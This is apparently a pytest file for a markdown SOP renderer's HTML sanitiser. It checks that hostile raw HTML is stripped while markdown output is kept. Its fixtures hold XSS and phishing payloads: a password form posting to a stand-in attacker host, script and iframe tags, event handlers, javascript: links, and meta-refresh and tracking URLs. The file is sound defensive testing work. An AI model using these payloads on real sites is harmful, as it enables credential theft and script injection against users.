"""SOP bodies are rendered through an allow-list: what markdown makes is kept, raw HTML that
could restyle or reshape the page (style, forms, frames, scripts, event handlers) is dropped."""

from __future__ import annotations

import re

import pytest

from procmine.dashboard.components.sop_widgets import render_body
from procmine.sop.document import heading_anchors, load_sops, parse_sop, render_sop
from procmine.sop.repository import bundled_sops_dir
from tests.test_sop_library import SOP_TEXT

HOSTILE = """\
## 1. Count cash {#count_cash}

<style>button { display: none !important; } .stApp { visibility: hidden; }</style>

<form action="https://evil.example/collect" method="post">
<input type="password" name="pw"><button type="submit">Confirm</button>
</form>

<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x"></object>
<script>alert(1)</script><img src="x" onerror="alert(2)">

<p onclick="alert(3)" style="position:fixed;top:0">Count the notes twice.</p>

[bad](javascript:alert(4)) [data](data:text/html,hi) [web](https://bank.example/rule)
[here](#count_cash) [other](SOP-P18.md#count_cash)

# Hidden heading {: style="display:none" onmouseover="alert(5)" #hidden }
"""


def _tags(html: str) -> set[str]:
    return {t.lower() for t in re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", html)}


def test_hostile_raw_html_is_dropped() -> None:
    html = render_sop(HOSTILE)
    assert _tags(html) <= {"h1", "h2", "p", "a"}
    for word in ("style", "<form", "<input", "<button", "iframe", "object", "script", "<img",
                 "onclick", "onerror", "onmouseover", "javascript:", "data:", "display:none",
                 "evil.example", "position:fixed", "alert("):
        assert word not in html, word
    # the text of a dropped element stays as text; what markdown made stays as it was
    assert '<h2 id="count_cash">1. Count cash</h2>' in html
    assert "<p>Count the notes twice.</p>" in html
    assert '<h1 id="hidden">Hidden heading</h1>' in html
    assert '<a href="https://bank.example/rule" rel="noopener noreferrer">web</a>' in html
    assert '<a href="#count_cash" rel="noopener noreferrer">here</a>' in html
    assert '<a href="SOP-P18.md#count_cash" rel="noopener noreferrer">other</a>' in html
    assert '<a rel="noopener noreferrer">bad</a>' in html
    assert '<a rel="noopener noreferrer">data</a>' in html


@pytest.mark.parametrize("body", [
    "<STYLE>p{color:red}</STYLE>text",
    "<svg><style>p{}</style></svg>text",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>text",
    "<a href=' javascript:alert(1)'>text</a>",
    "<a href='JaVaScRiPt:alert(1)'>text</a>",
    "<base href='https://evil.example/'>text",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>text",
    "<link rel='stylesheet' href='https://evil.example/x.css'>text",
    "<div style='background:url(https://evil.example/track)'>text</div>",
    "<textarea>text</textarea><select><option>o</option></select>",
    "<!-- <style>p{}</style> -->text",
])
def test_other_hostile_bodies_leave_only_text(body: str) -> None:
    html = render_sop(body)
    assert "text" in html
    assert _tags(html) <= {"p", "a"}, html
    for word in ("style", "javascript", "evil.example", "<!--", "textarea", "select"):
        assert word not in html.lower(), (word, html)


def test_what_markdown_makes_is_kept() -> None:
    body = ("### Step {#step}\n\n*em* **strong** `code`\n\n1. one\n2. two\n\n- a\n- b\n\n"
            "> quote\n\n---\n\nline  \nbreak\n\n| left | right |\n|:--|--:|\n| 1 | 2 |\n\n"
            "```python\nx = \"<b>\"\n```\n")
    html = render_sop(body)
    assert _tags(html) == {"h3", "p", "em", "strong", "code", "ol", "ul", "li", "blockquote",
                           "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "pre"}
    assert '<h3 id="step">Step</h3>' in html
    assert '<th align="left">left</th>' in html and '<td align="right">2</td>' in html
    assert '<pre><code>x = "&lt;b&gt;"\n</code></pre>' in html


def test_the_bundled_sops_render_as_before_but_for_the_links_rel() -> None:
    for sop in load_sops(bundled_sops_dir()).values():
        html = render_sop(sop.body)
        assert _tags(html) <= {"h1", "h2", "h3", "p", "ul", "li", "strong", "a", "table",
                               "thead", "tbody", "tr", "th", "td"}
        assert {s.id for s in sop.steps} <= heading_anchors(sop.body)
    html = render_sop(parse_sop(SOP_TEXT).body)
    assert '<h3 id="count_cash">2. 点钞 Count cash</h3>' in html


def test_the_page_helper_sanitises_too() -> None:
    html = render_body(HOSTILE)
    assert "<style" not in html and "<form" not in html and "onclick" not in html
    assert '<h2 id="count_cash">1. Count cash</h2>' in html
